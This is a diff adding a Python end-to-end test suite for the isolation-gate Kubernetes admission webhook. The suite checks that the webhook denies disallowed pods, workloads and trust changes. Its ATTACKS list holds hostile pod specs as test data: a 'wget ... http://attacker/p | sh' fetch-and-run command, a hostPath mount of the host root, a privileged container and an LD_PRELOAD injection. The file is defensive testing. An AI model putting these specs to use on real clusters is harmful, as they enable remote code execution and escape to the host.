@@ -1,0 +1,482 @@
+"""The e2e suite for any cluster: what a user sees through a real API server once
+the chart is installed. It needs only "an API server with isolation-gate
+installed by the chart (default values) and reachable through a kubeconfig",
+and makes no assumption that the gate runs as a local process:
+
+    cd tests/e2e && KUBECONFIG=~/.kube/config /usr/bin/python3 -m unittest cluster_suite -v
+
+Environment: IG_KUBECONFIG, else KUBECONFIG (its first file), else
+~/.kube/config; IG_KUBE_CONTEXT (default: the current context);
+IG_RELEASE_NAMESPACE (default isolation-gate-system); IG_SUITE_WAIT (seconds,
+default 120: the bound of each wait). The cluster must not have the setec
+sandbox (RuntimeClass kata-fc), as kind has not: a trusted Component's pods are
+then admitted in-process and an untrusted one's denied (the hosted shape, the
+chart's default). The user of the kubeconfig must be able to create and delete
+namespaces, Components, Roles and RoleBindings and to impersonate users (kind's
+admin can).
+
+Each test class works in a scratch namespace of its own, labelled
+gibson.zeroroot.ai/isolation=enforced (and pod-security privileged, so that
+Pod Security never answers before the gate), with the example Components
+applied by kubectl; it deletes the namespace afterwards. Pods and workloads are
+created with dryRun=All: nothing has to run (kind has no Kata). Every test
+asserts the gate's own message fragments (src/admission/pod_rules.cpp,
+handlers.cpp, trust_guard.cpp; docs/security.md for the attack shapes).
+
+tests/e2e/test_cluster_suite_local.py runs this suite in the test command
+against the repository's test API server with the chart's objects installed and
+the Deployment played by processes of the binary; .github/workflows/e2e-kind.yml
+runs it against kind. Where that test API server cannot do what a test needs
+(apps/v1, impersonation), the test skips, saying why; on a real cluster nothing
+skips. Every wait is bounded; nothing asserts how long something took.
+"""
+
+import copy
+import json
+import os
+import shutil
+import subprocess
+import time
+import unittest
+import uuid
+
+import yaml
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+SOURCE_DIR = os.environ.get("IG_SOURCE_DIR") or os.path.dirname(os.path.dirname(HERE))
+EXAMPLES = os.path.join(SOURCE_DIR, "examples")
+
+COMPONENT_LABEL = "gibson.zeroroot.ai/component"
+ISOLATION_KEY = "gibson.zeroroot.ai/isolation"  # the namespace label and the decision annotation
+GROUP, VERSION, PLURAL = "gibson.zeroroot.ai", "v1alpha1", "components"
+CRD_NAME = "components.gibson.zeroroot.ai"
+RUNTIME_CLASS = "kata-fc"  # the chart's runtimeClass default
+DEV_USER = "ig-suite-dev"  # impersonated: a user in no admin group
+
+ENTRYPOINT = "where a pod runs only what its Component declares"
+LOADER = "where nothing may load code the Component does not declare"
+HOST = "where a pod may not reach the host"
+DENIED = 'gibson.zeroroot.ai" denied the request'
+
+
+def settings():
+    path = os.environ.get("IG_KUBECONFIG") or (os.environ.get("KUBECONFIG") or "").split(os.pathsep)[0] \
+        or os.path.expanduser("~/.kube/config")
+    return {"kubeconfig": path, "context": os.environ.get("IG_KUBE_CONTEXT") or None,
+            "release_namespace": os.environ.get("IG_RELEASE_NAMESPACE") or "isolation-gate-system",
+            "wait": float(os.environ.get("IG_SUITE_WAIT") or 120)}
+
+
+def example(kind, name, namespace):
+    with open(os.path.join(EXAMPLES, kind, name + ".yaml")) as f:
+        obj = yaml.safe_load(f)
+    obj["metadata"]["namespace"] = namespace
+    return obj
+
+
+def wait_until(what, predicate, timeout):
+    deadline = time.monotonic() + timeout
+    last = None
+    while time.monotonic() < deadline:
+        last = predicate()
+        if last:
+            return last
+        time.sleep(0.5)
+    raise AssertionError("not reached within %ss: %s (last: %r)" % (timeout, what, last))
+
+
+def message_of(e):
+    """The API's message in an ApiException's Status body."""
+    try:
+        return json.loads(e.body).get("message", e.body)
+    except (TypeError, ValueError):
+        return e.body
+
+
+class InstalledCase(unittest.TestCase):
+    """A scratch namespace, enforced, with the example Components applied by kubectl."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        import kubernetes
+        cls.k8s = kubernetes
+        cls.cfg = settings()
+        cls.client = cls.api_client()
+        cls.core = kubernetes.client.CoreV1Api(cls.client)
+        cls.custom = kubernetes.client.CustomObjectsApi(cls.client)
+        cls.ns = "ig-suite-%s-%s" % (cls.__name__.lower()[:20], uuid.uuid4().hex[:6])
+        cls.core.create_namespace({"apiVersion": "v1", "kind": "Namespace", "metadata": {
+            "name": cls.ns, "labels": {ISOLATION_KEY: "enforced", "pod-security.kubernetes.io/enforce": "privileged"}}})
+        cls.addClassCleanup(cls.delete_namespace)
+        if cls.served("", "v1", "serviceaccounts"):
+            # Pods need their namespace's default ServiceAccount (its controller makes it).
+            wait_until("the ServiceAccount default in " + cls.ns,
+                       lambda: cls.status_of(cls.core.read_namespaced_service_account, "default", cls.ns) == 200,
+                       cls.cfg["wait"])
+        # Enforcing once the leader applied the webhook configurations and the namespace is seen labelled.
+        wait_until("the gate denying an unlabelled pod in " + cls.ns,
+                   lambda: DENIED in str(cls.create_pod_as(cls.core, cls.pod("probe", component=None))[1]),
+                   cls.cfg["wait"])
+        components = [example("components", n, cls.ns) for n in ("docs-indexer", "report-parser", "legacy-exporter")]
+        cls.applied = cls.kubectl("apply", "-f", "-", namespace=cls.ns,
+                                  stdin="".join("---\n" + yaml.safe_dump(c) for c in components))
+        if cls.applied.returncode != 0:
+            raise AssertionError("kubectl apply of examples/components failed:\n%s%s"
+                                 % (cls.applied.stdout, cls.applied.stderr))
+
+    @classmethod
+    def api_client(cls):
+        cfg = cls.k8s.client.Configuration()
+        cls.k8s.config.load_kube_config(config_file=cls.cfg["kubeconfig"], context=cls.cfg["context"],
+                                        client_configuration=cfg)
+        client = cls.k8s.client.ApiClient(cfg)
+        cls.addClassCleanup(client.rest_client.pool_manager.clear)
+        cls.addClassCleanup(client.close)
+        return client
+
+    @classmethod
+    def delete_namespace(cls):
+        try:
+            cls.core.delete_namespace(cls.ns)
+        except cls.k8s.client.ApiException as e:
+            if e.status != 404:
+                raise
+
+    @classmethod
+    def status_of(cls, fn, *args, **kw):
+        try:
+            fn(*args, **kw)
+            return 200
+        except cls.k8s.client.ApiException as e:
+            return e.status
+
+    @classmethod
+    def call(cls, fn, *args, **kw):
+        """(200, the answer as a dict) when fn succeeds, else (HTTP status, the API's message)."""
+        try:
+            out = fn(*args, **kw)
+            return 200, (out.to_dict() if hasattr(out, "to_dict") else out)
+        except cls.k8s.client.ApiException as e:
+            return e.status, message_of(e)
+
+    @classmethod
+    def served(cls, group, version, resource):
+        """Whether the API server serves group/version's resource (discovery)."""
+        path = "/api/v1" if group == "" else "/apis/%s/%s" % (group, version)
+        try:
+            out = cls.client.call_api(path, "GET", response_type="object", auth_settings=["BearerToken"],
+                                      _return_http_data_only=True)
+        except cls.k8s.client.ApiException as e:
+            if e.status == 404:
+                return False
+            raise
+        return any(r.get("name") == resource for r in out.get("resources", []))
+
+    @classmethod
+    def kubectl_binary(cls):
+        return shutil.which("kubectl") or os.path.join(SOURCE_DIR, ".tools", "bin", "kubectl")
+
+    @classmethod
+    def kubectl(cls, *args, namespace=None, stdin=None, validate=True, timeout=120):
+        """kubectl with the suite's kubeconfig; `--validate=false` on writes only where the API server
+        serves no OpenAPI document (kubectl's client-side validation needs it; the test API server has none)."""
+        binary = cls.kubectl_binary()
+        if not os.access(binary, os.X_OK):
+            raise unittest.SkipTest("kubectl not installed")
+        cmd = [binary, "--kubeconfig", cls.cfg["kubeconfig"]]
+        if cls.cfg["context"]:
+            cmd += ["--context", cls.cfg["context"]]
+        if namespace:
+            cmd += ["-n", namespace]
+        cmd += list(args)
+        if validate and args and args[0] in ("apply", "create") and not cls.openapi_served():
+            cmd.append("--validate=false")
+        return subprocess.run(cmd, input=stdin, capture_output=True, text=True, timeout=timeout)
+
+    _openapi = None
+
+    @classmethod
+    def openapi_served(cls):
+        if InstalledCase._openapi is None:
+            InstalledCase._openapi = cls.status_of(
+                cls.client.call_api, "/openapi/v3", "GET", auth_settings=["BearerToken"],
+                _preload_content=False) == 200
+        return InstalledCase._openapi
+
+    @classmethod
+    def pod(cls, name, component="docs-indexer", change=None):
+        """A pod of `component` on the example Component's image (None: unlabelled), `change(spec, container)`
+        applied."""
+        image = "registry.example.com/gibson/docs-indexer:2.0.1"
+        if component and os.path.exists(os.path.join(EXAMPLES, "components", component + ".yaml")):
+            image = example("components", component, cls.ns)["spec"]["image"]
+        p = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": cls.ns},
+             "spec": {"containers": [{"name": "main", "image": image}]}}
+        if component:
+            p["metadata"]["labels"] = {COMPONENT_LABEL: component}
+        if change:
+            change(p["spec"], p["spec"]["containers"][0])
+        return p
+
+    @classmethod
+    def create_pod_as(cls, core, pod):
+        return cls.call(core.create_namespaced_pod, cls.ns, pod, dry_run="All")
+
+    def create_pod(self, pod):
+        return self.create_pod_as(self.core, pod)
+
+    def assert_denied(self, status, msg, *fragments, webhook=None):
+        self.assertEqual(status, 403, msg)
+        self.assertIn(('admission webhook "%s" denied the request' % webhook) if webhook else DENIED, msg)
+        for f in fragments:
+            self.assertIn(f, msg)
+
+    def subject(self, name, kind="pod"):
+        return '%s "%s" in namespace "%s" denied: ' % (kind, name, self.ns)
+
+
+class Install(InstalledCase):
+    def test_the_chart_s_webhook_configurations_call_the_release_s_service_and_fail_closed(self):
+        import kubernetes
+        admission = kubernetes.client.AdmissionregistrationV1Api(self.client)
+        selector = "app.kubernetes.io/name=isolation-gate"
+        found = {}
+        for kind, lister in (("mutating", admission.list_mutating_webhook_configuration),
+                             ("validating", admission.list_validating_webhook_configuration)):
+            items = lister(label_selector=selector).items
+            self.assertEqual(len(items), 1, "%s configurations labelled %s: %r"
+                             % (kind, selector, [i.metadata.name for i in items]))
+            found[kind] = items[0]
+        names = set()
+        for kind, conf in found.items():
+            for w in conf.webhooks:
+                names.add(w.name)
+                with self.subTest(webhook=w.name):
+                    self.assertEqual(w.client_config.service.namespace, self.cfg["release_namespace"])
+                    self.assertTrue(w.client_config.ca_bundle, "no caBundle")
+                    self.assertEqual(w.side_effects, "None")
+                    # Only the audit webhooks (nothing denied, nothing patched) may be ignored when down.
+                    self.assertEqual(w.failure_policy, "Ignore" if ".audit." in w.name else "Fail")
+        self.assertTrue({"pods.mutate.gibson.zeroroot.ai", "pods.validate.gibson.zeroroot.ai",
+                         "workloads.validate.gibson.zeroroot.ai", "components.validate.gibson.zeroroot.ai",
+                         "namespaces.validate.gibson.zeroroot.ai"} <= names, names)
+
+    def test_components_are_applied_by_kubectl_and_an_omitted_trust_is_warned_about(self):
+        out = self.applied.stdout + self.applied.stderr
+        for name in ("docs-indexer", "report-parser", "legacy-exporter"):
+            self.assertIn("component.gibson.zeroroot.ai/%s created" % name, out)
+        self.assertIn('Warning: spec.policy.content_trust omitted: Component "legacy-exporter" is treated as '
+                      'trusted; declare it', out)
+        got = self.custom.get_namespaced_custom_object(GROUP, VERSION, self.ns, PLURAL, "report-parser")
+        self.assertEqual(got["spec"]["policy"]["content_trust"], "untrusted")
+
+
+class Pods(InstalledCase):
+    def test_an_unlabelled_pod_is_denied_naming_the_label_to_add(self):
+        status, msg = self.create_pod(self.pod("unlabelled", component=None))
+        self.assert_denied(status, msg, self.subject("unlabelled") + "it has no label " + COMPONENT_LABEL,
+                           'namespace "%s" is enforced by isolation-gate' % self.ns,
+                           "To fix: add the label %s: <Component name> to the pod (metadata.labels)." % COMPONENT_LABEL,
+                           webhook="pods.mutate.gibson.zeroroot.ai")
+
+    def test_a_pod_naming_no_component_is_denied(self):
+        status, msg = self.create_pod(self.pod("orphan", component="no-such-component"))
+        self.assert_denied(status, msg, 'names Component "no-such-component", which does not exist in namespace "%s"'
+                           % self.ns)
+
+    def test_a_trusted_component_s_pod_is_admitted_in_process_without_the_sandbox(self):
+        pod = example("pods", "docs-indexer-pod", self.ns)
+        status, created = self.create_pod(pod)
+        self.assertEqual(status, 200, created)
+        self.assertEqual(created["metadata"]["annotations"][ISOLATION_KEY], "AllowInProcess")
+        self.assertIsNone(created["spec"].get("runtime_class_name"))
+
+    def test_an_omitted_trust_is_admitted_with_kubectl_showing_the_warning(self):
+        p = self.kubectl("create", "--dry-run=server", "-o", "jsonpath={.metadata.annotations}", "-f", "-",
+                         namespace=self.ns, stdin=yaml.safe_dump(self.pod("legacy-0", component="legacy-exporter")))
+        self.assertEqual(p.returncode, 0, p.stderr)
+        self.assertEqual(json.loads(p.stdout), {ISOLATION_KEY: "AllowInProcess"})
+        self.assertIn('Warning: Component "legacy-exporter" declares no content_trust: treated as trusted; declare it',
+                      p.stderr)
+
+    def test_an_untrusted_component_s_pod_is_denied_in_the_hosted_shape(self):
+        pod = example("pods", "report-parser-pod", self.ns)
+        status, msg = self.create_pod(pod)
+        self.assert_denied(status, msg, self.subject(pod["metadata"]["name"]),
+                           'component "report-parser" is untrusted (content_trust: untrusted)',
+                           "isolation-gate runs in the setec-only (hosted) shape",
+                           'the setec sandbox (RuntimeClass "%s") is ' % RUNTIME_CLASS,
+                           "so untrusted code has nowhere safe to run")
+
+    def test_through_kubectl_an_untrusted_pod_is_refused_with_the_gate_s_message(self):
+        p = self.kubectl("apply", "--dry-run=server", "-f", "-", namespace=self.ns,
+                         stdin=yaml.safe_dump(example("pods", "report-parser-pod", self.ns)))
+        self.assertNotEqual(p.returncode, 0, p.stdout)
+        self.assertIn("Error from server (Forbidden)", p.stderr)
+        self.assertIn(DENIED, p.stderr)
+        self.assertIn("so untrusted code has nowhere safe to run", p.stderr)
+
+
+# Issue 25's attack shapes on a trusted Component's pod (its label and image, in-process without the sandbox).
+ATTACKS = [
+    ("own command", lambda s, c: c.update(command=["sh", "-c", "wget -qO- http://attacker/p | sh"]),
+     [ENTRYPOINT, 'container "main" sets command ["sh","-c","wget -qO- http://attacker/p | sh"]']),
+    ("hostPath", lambda s, c: s.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
+     [HOST, 'hostPath volume "root"']),
+    ("privileged", lambda s, c: c.update(securityContext={"privileged": True}), [HOST, 'privileged container "main"']),
+    ("LD_PRELOAD", lambda s, c: c.update(env=[{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}]),
+     [LOADER, 'container "main" sets env LD_PRELOAD']),
+    ("envFrom", lambda s, c: c.update(envFrom=[{"configMapRef": {"name": "evil"}}]),
+     [LOADER, 'container "main" takes envFrom']),
+]
+
+
+class Attacks(InstalledCase):
+    def test_each_attack_shape_on_a_trusted_component_s_pod_is_denied_with_its_reason(self):
+        for i, (name, change, fragments) in enumerate(ATTACKS):
+            with self.subTest(attack=name):
+                status, msg = self.create_pod(self.pod("attack-%d" % i, change=change))
+                self.assert_denied(status, msg, self.subject("attack-%d" % i),
+                                   'component "docs-indexer" runs outside a microVM', *fragments)
+
+    def test_the_same_pod_without_the_attack_is_admitted(self):
+        status, created = self.create_pod(self.pod("plain"))
+        self.assertEqual(status, 200, created)
+        self.assertEqual(created["metadata"]["annotations"][ISOLATION_KEY], "AllowInProcess")
+
+
+def deployment(name, namespace, template_labels, change=None):
+    containers = [{"name": "main", "image": example("components", "docs-indexer", namespace)["spec"]["image"]}]
+    if change:
+        change({}, containers[0])
+    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, "namespace": namespace},
+            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": name}},
+                     "template": {"metadata": {"labels": dict(template_labels, app=name)},
+                                  "spec": {"containers": containers}}}}
+
+
+class Workloads(InstalledCase):
+    def test_a_deployment_whose_pods_would_be_denied_is_refused_at_apply(self):
+        if not self.served("apps", "v1", "deployments"):
+            self.skipTest("the API server serves no apps/v1 Deployments (the repository's test API server serves "
+                          "none; /validate/workloads is tested there by test_workloads.py)")
+        cases = [
+            ("unlabelled", {}, None, ["its pods would be denied: it has no label " + COMPONENT_LABEL,
+                                      "to the pod template (spec.template.metadata.labels)."]),
+            ("own-command", {COMPONENT_LABEL: "docs-indexer"}, ATTACKS[0][1],
+             ["its pods would be denied: component \"docs-indexer\" runs outside a microVM", ENTRYPOINT]),
+        ]
+        for name, labels, change, fragments in cases:
+            with self.subTest(deployment=name):
+                p = self.kubectl("apply", "--dry-run=server", "-f", "-", namespace=self.ns,
+                                 stdin=yaml.safe_dump(deployment(name, self.ns, labels, change)))
+                self.assertNotEqual(p.returncode, 0, p.stdout)
+                self.assertIn('admission webhook "workloads.validate.gibson.zeroroot.ai" denied the request',
+                              p.stderr)
+                self.assertIn(self.subject(name, kind="Deployment"), p.stderr)
+                for f in fragments:
+                    self.assertIn(f, p.stderr)
+        # The Deployment of the trusted Component's declared shape is accepted.
+        p = self.kubectl("apply", "--dry-run=server", "-f", "-", namespace=self.ns,
+                         stdin=yaml.safe_dump(deployment("fine", self.ns, {COMPONENT_LABEL: "docs-indexer"})))
+        self.assertEqual(p.returncode, 0, p.stderr)
+        self.assertIn("deployment.apps/fine created (server dry run)", p.stdout)
+
+
+def component(name, namespace, trust="trusted", image="registry.example.com/gibson/tool:1.0"):
+    return {"apiVersion": "%s/%s" % (GROUP, VERSION), "kind": "Component",
+            "metadata": {"name": name, "namespace": namespace},
+            "spec": {"kind": "tool", "image": image, "policy": {"content_trust": trust}}}
+
+
+class Components(InstalledCase):
+    def create(self, obj):
+        return self.call(self.custom.create_namespaced_custom_object, GROUP, VERSION, self.ns, PLURAL, obj,
+                         dry_run="All")
+
+    def crd_installed(self):
+        import kubernetes
+        ext = kubernetes.client.ApiextensionsV1Api(self.client)
+        return self.status_of(ext.read_custom_resource_definition, CRD_NAME) == 200
+
+    def test_an_invalid_content_trust_is_refused(self):
+        status, msg = self.create(component("maybe-trusted", self.ns, trust="sometimes"))
+        if self.crd_installed():
+            # The CRD's schema (an enum) refuses it before any webhook is called.
+            self.assertEqual(status, 422, msg)
+            self.assertIn('spec.policy.content_trust: Unsupported value: "sometimes"', msg)
+        else:
+            # Without the CRD's schema (the test API server serves Components natively), the gate refuses it.
+            self.assert_denied(status, msg, 'Component "maybe-trusted": spec.policy.content_trust: "sometimes" is not '
+                               'a valid content trust; expected one of:', webhook="components.validate.gibson.zeroroot.ai")
+
+    def test_an_invalid_image_the_schema_accepts_is_refused_by_the_gate(self):
+        status, msg = self.create(component("bad-image", self.ns, image="registry.example.com/Gibson/Tool:1"))
+        self.assert_denied(status, msg, 'Component "bad-image": spec.image: "registry.example.com/Gibson/Tool:1" is '
+                           'not a valid image reference', "must be lowercase letters",
+                           webhook="components.validate.gibson.zeroroot.ai")
+
+    def test_a_valid_component_is_admitted(self):
+        status, created = self.create(component("fine", self.ns))
+        self.assertEqual(status, 200, created)
+        self.assertEqual(created["spec"]["policy"]["content_trust"], "trusted")
+
+
+class Trust(InstalledCase):
+    """Loosening content_trust needs a trust admin (the chart's default: system:masters); tightening is anyone's.
+    As DEV_USER, impersonated (`kubectl --as`), granted Components in the scratch namespace by a Role (and
+    nothing else: `kubectl auth can-i` shows the impersonation is honoured)."""
+
+    def require_rbac(self):
+        if not (self.served("rbac.authorization.k8s.io", "v1", "roles")
+                and self.served("authorization.k8s.io", "v1", "selfsubjectaccessreviews")):
+            self.skipTest("the API server serves no RBAC and no SelfSubjectAccessReview, so no user in no admin group "
+                          "can be granted Components and impersonated (kubectl --as): the repository's test API "
+                          "server serves neither and ignores Impersonate-User; test_attacks.py tests the trust guard "
+                          "there with a token per user")
+
+    def grant_components(self):
+        import kubernetes
+        rbac = kubernetes.client.RbacAuthorizationV1Api(self.client)
+        rbac.create_namespaced_role(self.ns, {
+            "metadata": {"name": "ig-suite-components"},
+            "rules": [{"apiGroups": [GROUP], "resources": [PLURAL], "verbs": ["get", "list", "patch", "update"]}]})
+        rbac.create_namespaced_role_binding(self.ns, {
+            "metadata": {"name": "ig-suite-components"},
+            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "ig-suite-components"},
+            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": DEV_USER}]})
+        wait_until("RBAC granting %s patch on Components" % DEV_USER, lambda: self.can_i("patch", "components." + GROUP),
+                   self.cfg["wait"])
+        # The impersonation is honoured: the user may do only what the Role grants (its impersonator may do more).
+        self.assertFalse(self.can_i("create", "pods"))
+
+    def can_i(self, verb, resource):
+        p = self.kubectl("auth", "can-i", verb, resource, "--as=" + DEV_USER, namespace=self.ns)
+        self.assertIn(p.stdout.strip(), ("yes", "no"), p.stderr)
+        return p.stdout.strip() == "yes"
+
+    def patch_as_dev(self, name, trust):
+        return self.kubectl("patch", "component", name, "--as=" + DEV_USER, "--type=merge", "--dry-run=server",
+                            "-p", json.dumps({"spec": {"policy": {"content_trust": trust}}}),
+                            "-o", "jsonpath={.spec.policy.content_trust}", namespace=self.ns)
+
+    def test_a_non_admin_may_not_loosen_trust_but_may_tighten_it(self):
+        self.require_rbac()
+        self.grant_components()
+        p = self.patch_as_dev("report-parser", "trusted")
+        self.assertNotEqual(p.returncode, 0, p.stdout)
+        self.assertIn('admission webhook "components.validate.gibson.zeroroot.ai" denied the request', p.stderr)
+        self.assertIn('changing Component "report-parser" in namespace "%s" content_trust from "untrusted" to '
+                      '"trusted" would let its pods run outside a microVM, and user "%s" is not in a trust-admin group'
+                      % (self.ns, DEV_USER), p.stderr)
+        p = self.patch_as_dev("docs-indexer", "untrusted")
+        self.assertEqual(p.returncode, 0, p.stderr)
+        self.assertEqual(p.stdout, "untrusted")
+        # Dry runs: nothing changed.
+        got = self.custom.get_namespaced_custom_object(GROUP, VERSION, self.ns, PLURAL, "docs-indexer")
+        self.assertEqual(got["spec"]["policy"]["content_trust"], "trusted")
+
+
+if __name__ == "__main__":
+    unittest.main()
